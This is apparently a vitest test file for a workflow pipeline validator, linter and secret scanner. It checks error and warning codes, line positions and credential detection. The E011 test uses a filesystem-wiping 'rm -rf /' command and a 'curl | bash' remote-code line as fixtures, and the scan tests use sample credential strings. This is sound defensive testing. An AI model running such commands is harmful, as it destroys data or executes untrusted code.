import { afterAll, describe, expect, it } from "vitest";
import { lintPipeline } from "../../../src/engine/check/lint.js";
import { scanSecrets } from "../../../src/engine/check/secrets.js";
import { validatePipeline } from "../../../src/engine/check/validate.js";
import type { Finding } from "../../../src/engine/findings.js";
import { loadPipelineText } from "../../../src/engine/format/load.js";
import { lineOf, removeTempDirs, tempDir, writeFile } from "../../support/temp-workspace.js";

afterAll(removeTempDirs);

const HEADER = `[workflow]\nname = "checks"\ndescription = "d"\nauthor = "a"\n`;

async function load(text: string, dir = tempDir()) {
  return loadPipelineText(text, { path: "main.oxoflow", dir });
}

async function validate(text: string, dir?: string): Promise<Finding[]> {
  return validatePipeline(await load(text, dir)).findings;
}

async function lint(text: string, dir?: string): Promise<Finding[]> {
  return lintPipeline(await load(text, dir)).findings;
}

function only(findings: Finding[], code: string): Finding[] {
  return findings.filter((finding) => finding.code === code);
}

/** The single finding with this code; fails when there is none or several. */
function one(findings: Finding[], code: string): Finding {
  const found = only(findings, code);
  expect(found, `${code} in ${findings.map((finding) => finding.code).join(", ")}`).toHaveLength(1);
  return found[0]!;
}

describe("validate: E codes", () => {
  it("E001: an empty workflow name", async () => {
    const finding = one(await validate(`[workflow]\nname = ""\n`), "E001");
    expect(finding).toMatchObject({ severity: "error", line: 2, column: 1, file: "main.oxoflow" });
  });

  it("E002: bad rule names, outputs without a command, threads = 0, bad memory, bad retry_delay", async () => {
    const text = `${HEADER}
[[rules]]
name = "bad name!"
shell = "true"

[[rules]]
name = "no_command"
output = ["x.txt"]

[[rules]]
name = "zero"
threads = 0
shell = "true"

[[rules]]
name = "mem"
memory = "lots"
shell = "true"

[[rules]]
name = "delay"
retry_delay = "soon"
shell = "true"
`;
    const findings = only(await validate(text), "E002");
    expect(findings.map((finding) => [finding.rule, finding.line])).toEqual([
      ["bad name!", lineOf(text, 'name = "bad name!"')],
      ["no_command", lineOf(text, 'name = "no_command"') - 1],
      ["zero", lineOf(text, "threads = 0")],
      ["mem", lineOf(text, 'memory = "lots"')],
      ["delay", lineOf(text, "retry_delay")],
    ]);
    expect(findings[0]!.suggestion).toBe("rename it to 'bad_name_'");
  });

  it("E003: an output wildcard that no input or sample source defines", async () => {
    const text = `${HEADER}\n[[rules]]\nname = "r"\ninput = ["{sample}.fq"]\noutput = ["{sample}.bam", "{lane}.log", "{_tmp}.x"]\nshell = "true"\n`;
    const finding = one(await validate(text), "E003");
    expect(finding.message).toContain("{lane}");
    expect(finding).toMatchObject({ line: lineOf(text, "output ="), rule: "r" });
    // Declared by a value table, E003 disappears.
    expect(only(await validate(`${text}\n[[values]]\nname = "lane"\nvalues = ["1"]\n`), "E003")).toEqual([]);
  });

  it("E004: memory the strict parser cannot read", async () => {
    const text = `${HEADER}\n[[rules]]\nname = "r"\nshell = "true"\n\n[rules.resources]\nmemory = "1.5G"\n\n[[rules]]\nname = "ok"\nshell = "true"\nresources = { memory = "16384" }\n`;
    const finding = one(await validate(text), "E004");
    expect(finding).toMatchObject({ rule: "r", line: lineOf(text, 'memory = "1.5G"') });
  });

  it("E005: config keys that do not exist, in commands, paths and when", async () => {
    const text = `${HEADER}\n[config]\ngenome = "g.fa"\n\n[[rules]]\nname = "r"\ninput = ["{config.genome}"]\noutput = ["{config.outdir}/x"]\nshell = "tool {config.genome} {config.threads}"\nwhen = "config.run_it"\n`;
    const findings = only(await validate(text), "E005");
    expect(findings.map((finding) => [finding.message.match(/config\.(\w+)/)![1], finding.line])).toEqual([
      ["threads", lineOf(text, "shell =")],
      ["outdir", lineOf(text, "output =")],
      ["run_it", lineOf(text, "when =")],
    ]);
  });

  it("E006: a cycle in the rule graph", async () => {
    const text = `${HEADER}\n[[rules]]\nname = "a"\ninput = ["b.txt"]\noutput = ["a.txt"]\nshell = "true"\n\n[[rules]]\nname = "b"\ninput = ["a.txt"]\noutput = ["b.txt"]\nshell = "true"\n`;
    const finding = one(await validate(text), "E006");
    expect(finding.message).toBe("DAG error: cycle detected in workflow DAG: a → b → a");
    expect(finding.line).toBe(lineOf(text, "[[rules]]"));
  });

  it("E007 and E008: unknown depends_on and extends, with a hint for namespaced rules", async () => {
    const text = `${HEADER}\n[[rules]]\nname = "qc::fastqc"\nshell = "true"\n\n[[rules]]\nname = "r"\nshell = "true"\ndepends_on = ["qc::fastqc", "fastqc"]\nextends = "base"\n`;
    const findings = await validate(text);
    const e007 = one(findings, "E007");
    expect(e007).toMatchObject({ line: lineOf(text, "depends_on"), suggestion: "did you mean 'qc::fastqc'?" });
    expect(one(findings, "E008").line).toBe(lineOf(text, "extends"));
  });

  it("E009, W017, W018: paths that climb out, are absolute or start with ~", async () => {
    const text = `${HEADER}\n[[rules]]\nname = "r"\ninput = ["../shared/x.txt"]\noutput = ["/tmp/out.txt", "~/out.txt"]\nshell = "true"\n`;
    const findings = await validate(text);
    expect(one(findings, "E009").line).toBe(lineOf(text, "input ="));
    expect(one(findings, "W017").line).toBe(lineOf(text, "output ="));
    expect(one(findings, "W018").severity).toBe("warning");
  });

  it("E010: an undefined env_group, and a missing absolute input", async () => {
    const text = `${HEADER}\n[env_groups.align]\nconda = "envs/align.yaml"\n\n[[rules]]\nname = "r"\ninput = ["/definitely/not/here.fa"]\nshell = "true"\nenv_group = "alignn"\n\n[[rules]]\nname = "ok"\nshell = "true"\nenv_group = "align"\n`;
    const findings = only(await validate(text), "E010");
    expect(findings.map((finding) => [finding.rule, finding.line])).toEqual([
      ["r", lineOf(text, 'env_group = "alignn"')],
      ["r", lineOf(text, "input =")],
    ]);
  });

  it("E010 becomes W020 for an optional rule or a relative path; relative paths resolve in the workflow folder (Decision 8)", async () => {
    const dir = tempDir();
    writeFile(dir, "data/present.fq", "");
    const text = `${HEADER}\n[[rules]]\nname = "r"\ninput = ["data/present.fq", "data/absent.fq", "package.json"]\noutput = ["o"]\nshell = "true"\n\n[[rules]]\nname = "opt"\noptional = true\ninput = ["/not/here.fa"]\nshell = "true"\n`;
    const result = validatePipeline(await load(text, dir));
    expect(only(result.findings, "E010")).toEqual([]);
    // package.json exists in the process's current folder, not in the workflow's.
    expect(only(result.findings, "W020").map((finding) => finding.message.split(" ")[3])).toEqual(["data/absent.fq", "package.json", "/not/here.fa"]);
    expect(result.missingInputs).toEqual(["data/absent.fq", "package.json", "/not/here.fa"]);
    expect(result.valid).toBe(true);
  });

  it("E011: destructive commands, with their category", async () => {
    const text = `${HEADER}\n[[rules]]\nname = "wipe"\nshell = "rm -rf / --no-preserve-root"\n\n[[rules]]\nname = "pipe"\npre_exec = "curl https://x.sh | bash"\nshell = "true"\n\n[[rules]]\nname = "fine"\nshell = "rm -rf results/tmp"\n`;
    const findings = only(await validate(text), "E011");
    expect(findings.map((finding) => [finding.rule, finding.line])).toEqual([
      ["wipe", lineOf(text, "rm -rf /")],
      ["pipe", lineOf(text, "pre_exec")],
    ]);
    expect(findings[0]!.message).toBe("shell command in rule 'wipe' matches dangerous pattern [DESTRUCTIVE_DELETE]: recursive delete of the filesystem root or home folder");
    expect(findings[1]!.message).toContain("[REMOTE_CODE]");
  });

  it("E013 (a warning) and E014: checkpoint rules", async () => {
    const text = `${HEADER}\n[[sample_groups]]\nname = "g"\nsamples = ["S1"]\n\n[[rules]]\nname = "discover"\ncheckpoint = true\noutput = ["found.txt"]\nshell = "true"\n\n[[rules]]\nname = "per_sample"\ncheckpoint = true\ncheckpoint_manifest = "m.toml"\noutput = ["{sample}.txt"]\nshell = "true"\n`;
    const findings = await validate(text);
    expect(one(findings, "E013")).toMatchObject({ severity: "warning", rule: "discover", line: lineOf(text, "checkpoint = true") });
    const e014 = one(findings, "E014");
    expect(e014).toMatchObject({ severity: "error", rule: "per_sample" });
    expect(e014.message).toContain("{sample}");
  });

  it("E017: an unreadable when, positioned at the column inside the condition", async () => {
    const text = `${HEADER}\n[config]\ndepth = 30\n\n[[rules]]\nname = "r"\nshell = "true"\nwhen = "config.depth >"\n`;
    const finding = one(await validate(text), "E017");
    // The condition starts at column 9 of its line; reading stops at its 15th character (the end).
    expect(finding).toMatchObject({ severity: "error", rule: "r", line: lineOf(text, "when ="), column: 23 });
    expect(finding.message).toContain("column 15 of the condition");
  });

  it("a clean pipeline validates with its dependency count", async () => {
    const text = `${HEADER}\n[[rules]]\nname = "a"\noutput = ["a.txt"]\nshell = "touch {output}"\n\n[[rules]]\nname = "b"\ninput = ["a.txt"]\noutput = ["b.txt"]\nshell = "cp {input} {output}"\n`;
    const result = validatePipeline(await load(text));
    expect(result).toMatchObject({ valid: true, findings: [], rules: 2, dependencies: 1, missingInputs: [] });
  });
});

describe("lint: W codes", () => {
  it("W001/W002: workflow without description and author", async () => {
    const findings = await lint(`[workflow]\nname = "x"\n`);
    expect(one(findings, "W001").line).toBe(1);
    expect(one(findings, "W002").line).toBe(1);
  });

  it("rule-level warnings and infos point at their rule or field", async () => {
    const text = `${HEADER}
[[rules]]
name = "busy-rule"
output = ["out.txt"]
shell = "sort --parallel=12 in > out.txt"
threads = 12
retries = 2
on_failure = "echo failed; cleanup"

[[rules]]
name = "huge"
shell = "true"
log = "huge.log"
description = "d"
resources = { threads = 40 }
shadow = "minimal"
checkpoint = true
checkpoint_manifest = "m.toml"
`;
    const findings = await lint(text);
    const at = (code: string) => {
      const finding = one(findings, code);
      return [finding.rule, finding.line, finding.severity];
    };
    const busy = lineOf(text, 'name = "busy-rule"') - 1;
    const huge = lineOf(text, 'name = "huge"') - 1;
    expect(at("W003")).toEqual(["busy-rule", busy, "warning"]);
    expect(only(findings, "W004").map((finding) => finding.rule)).toEqual(["busy-rule"]);
    expect(at("W005")).toEqual(["busy-rule", busy, "warning"]);
    expect(at("W006")).toEqual(["busy-rule", lineOf(text, 'name = "busy-rule"'), "info"]);
    expect(at("W007")).toEqual(["busy-rule", busy, "info"]);
    expect(only(findings, "W008").map((finding) => finding.rule)).toEqual(["busy-rule", "huge"]);
    expect(at("W009")).toEqual(["huge", huge, "warning"]);
    expect(at("W010")).toEqual(["huge", lineOf(text, "checkpoint = true"), "warning"]);
    expect(at("W011")).toEqual(["huge", lineOf(text, "shadow"), "warning"]);
    expect(at("W012")).toEqual(["busy-rule", lineOf(text, "retries"), "info"]);
    expect(only(findings, "W013")).toEqual([]);
    expect(at("W019")).toEqual(["huge", huge, "warning"]);
    expect(at("W022")).toEqual(["busy-rule", lineOf(text, "on_failure"), "warning"]);
    expect(at("W025")).toEqual(["busy-rule", lineOf(text, "threads = 12"), "info"]);
  });

  it("W013, W016, W020 (pre_exec), W021 (on_success), W023", async () => {
    const text = `${HEADER}
[[rules]]
name = "r"
output = ["o"]
shell = "echo $(date) > o"
log = "r.log"
description = "d"
target = true
on_failure = "notify"
pre_exec = "mkdir -p x; cd x"
on_success = "echo \`date\`"
environment = { conda = "envs/tools.yaml" }
`;
    const findings = await lint(text);
    expect(one(findings, "W013").line).toBe(lineOf(text, "on_failure"));
    expect(one(findings, "W016")).toMatchObject({ severity: "info", line: lineOf(text, "environment") });
    expect(one(findings, "W020").message).toContain("';'");
    expect(one(findings, "W021").message).toContain("backticks");
    expect(only(findings, "W023").map((finding) => finding.line)).toEqual([lineOf(text, "shell ="), lineOf(text, "on_success")]);
    expect(only(findings, "W007")).toEqual([]);
    expect(only(findings, "W008")).toEqual([]);
  });

  it("W024: undeclared wildcards, once per name per rule; ${VAR} is a shell variable", async () => {
    const text = `${HEADER}\n[[rules]]\nname = "r"\ninput = ["{sample}.fq"]\noutput = ["{sample}.bam"]\nshell = "tool \${HOME} {sample} {threads} {chrom} > {output}"\n`;
    const findings = only(await lint(text), "W024");
    expect(findings.map((finding) => [finding.message.match(/\{(\w+)\}/)![1], finding.line])).toEqual([
      ["sample", lineOf(text, "shell =")],
      ["chrom", lineOf(text, "shell =")],
    ]);
    expect(findings[0]!.suggestion).toBe("add [[sample_groups]], sample_pattern or --samples");
  });

  it("W021: a script that reads another rule's output without an edge is reported once (Decision 7)", async () => {
    const dir = tempDir();
    writeFile(dir, "scripts/plot.py", "import pandas\ncounts = pandas.read_csv('results/counts/table.tsv')\n");
    const others = Array.from({ length: 5 }, (_, i) => `[[rules]]\nname = "other_${i}"\noutput = ["o${i}.txt"]\nshell = "true"\n`).join("\n");
    const text = `${HEADER}\n[[rules]]\nname = "count"\noutput = ["results/counts/{x}.tsv"]\nshell = "true"\n\n${others}\n[[rules]]\nname = "plot"\noutput = ["plot.png"]\nscript = "scripts/plot.py"\n\n[[rules]]\nname = "linked"\ninput = ["results/counts/table.tsv"]\noutput = ["l.png"]\nscript = "scripts/plot.py"\n`;
    const findings = only(await lint(text, dir), "W021");
    expect(findings).toHaveLength(1);
    expect(findings[0]).toMatchObject({ rule: "plot", line: lineOf(text, 'script = "scripts/plot.py"') });
    expect(findings[0]!.message).toContain("results/counts, an output of rule 'count'");
  });

  it("W026: unknown keys with the nearest known key as a hint", async () => {
    const text = `${HEADER}\n[[rules]]\nname = "r"\nshell = "true"\ndescripton = "typo"\nresources = { treads = 2 }\nfoo_bar_baz = 1\n`;
    const findings = only(await lint(text), "W026");
    expect(findings.map((finding) => [finding.message, finding.line, finding.suggestion])).toEqual([
      ["unknown key 'descripton' in rule 'r' is ignored", lineOf(text, "descripton"), "did you mean 'description'?"],
      ["unknown key 'foo_bar_baz' in rule 'r' is ignored", lineOf(text, "foo_bar_baz"), "remove it, or check the spelling against the format reference"],
      ["unknown key 'treads' in rule 'r' resources is ignored", lineOf(text, "treads"), "did you mean 'threads'?"],
    ]);
  });

  it("W026 at the top level and in [workflow]", async () => {
    const text = `[workflow]\nname = "x"\nauthr = "me"\n\n[varibles]\nx = 1\n`;
    const findings = only(await lint(text), "W026");
    expect(findings.map((finding) => [finding.line, finding.suggestion])).toEqual([
      [5, "remove it, or check the spelling against the format reference"],
      [3, "did you mean 'author'?"],
    ]);
  });

  it("each finding is reported once, and warnings from loading are included", async () => {
    const text = `[workflow]\nname = "x"\nsample_pattern = "raw/{sample}.fq"\n\n[[rules]]\nname = "a"\nshell = "true"\n\n[[rules]]\nname = "b"\nshell = "true"\n`;
    const result = lintPipeline(await load(text));
    const keys = result.findings.map((finding) => `${finding.code}|${finding.rule}|${finding.line}|${finding.message}`);
    expect(new Set(keys).size).toBe(keys.length);
    expect(one(result.findings, "SOURCE_EMPTY").line).toBe(3);
    expect(result).toMatchObject({ errors: 0, passed: true });
    expect(lintPipeline(await load(text), { strict: true }).passed).toBe(false);
  });
});

describe("secret scan (S008, Decision 7)", () => {
  it("flags real credential shapes at their line and column", async () => {
    const text = `${HEADER}
[config]
aws = "AKIAIOSFODNN7EXAMPLE"
token = "ghp_${"a1B2".repeat(9)}"
password = "hunter22"
key = """
-----BEGIN RSA PRIVATE KEY-----
MIIE...
"""
`;
    const findings = only(await lint(text), "S008");
    expect(findings.map((finding) => [finding.message, finding.line, finding.column])).toEqual([
      ["possible AWS access key id written in the pipeline file", lineOf(text, "AKIA"), 8],
      ["possible GitHub token written in the pipeline file", lineOf(text, "ghp_"), 10],
      ["possible password written in the pipeline file", lineOf(text, "hunter22"), 1],
      ["possible private key written in the pipeline file", lineOf(text, "BEGIN RSA"), 1],
    ]);
  });

  it("does not flag look-alikes: task-sk-, password_file, placeholders, short tokens", async () => {
    const text = `${HEADER}
[config]
password_file = "secrets/pw.txt"
password = "{config.pw}"
api_key = "$API_KEY"
secret = "not-a-shape"
note = "ghp_short"

[[rules]]
name = "task-sk-runner"
shell = "run --task-sk-12 --mask-sk-abc"
`;
    expect(only(await lint(text), "S008")).toEqual([]);
    expect(scanSecrets(`password = ""`)).toEqual([]);
  });

  it("scans included files too, pointing into them", async () => {
    const dir = tempDir();
    writeFile(dir, "mod.oxoflow", `[workflow]\nname = "m"\n\n[[rules]]\nname = "m"\nshell = "aws --key AKIAIOSFODNN7EXAMPLE"\n`);
    const text = `${HEADER}\n[[include]]\npath = "mod.oxoflow"\n`;
    const pipeline = await loadPipelineText(text, { path: `${dir}/main.oxoflow`, dir });
    const finding = one(lintPipeline(pipeline).findings, "S008");
    expect(finding).toMatchObject({ file: `${dir}/mod.oxoflow`, line: 6, column: 20 });
  });
});
